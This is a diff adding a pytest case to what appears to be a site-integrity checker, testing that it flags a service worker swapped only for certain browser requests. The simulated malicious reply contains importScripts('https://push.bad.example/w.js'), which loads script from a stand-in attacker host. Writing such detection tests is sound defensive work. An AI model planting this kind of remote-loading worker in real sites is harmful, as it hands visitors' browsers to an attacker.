@@ -72,6 +72,19 @@ def test_what_browsers_ask_for_again_by_themselves(name: str, header: str, copy:
     assert told.keys() == {("conditional-differs", name)} and "push.bad.example" in told["conditional-differs", name]
 
 
+@pytest.mark.parametrize("agent", ["", "Windows"])
+def test_a_worker_that_only_those_get_who_keep_it_is_named_so(agent: str, copy: Copy) -> None:
+    """Not after the tag that browsers bring along: it is another one for who has none as well."""
+    (copy.folder / "sw.js").write_text("self.onfetch = null;\n", "utf-8")
+    copy.sign()
+
+    def twist(ask: Ask, reply: Reply) -> None:
+        if ask.path == "/sw.js" and ask.headers.get("service-worker") == "script" and ask.agent(agent):
+            reply.status, reply.body = 200, b"importScripts('https://push.bad.example/w.js')"
+
+    assert found(copy, "check_ways_of_asking", twist).keys() == {("worker-swapped", "sw.js")}
+
+
 @pytest.mark.parametrize(("old", "kind"), [(True, "rollback"), (False, "conditional-differs")])
 def test_another_list_for_those_who_have_one(old: bool, kind: str, copy: Copy) -> None:
     copy.sign(serial=3)
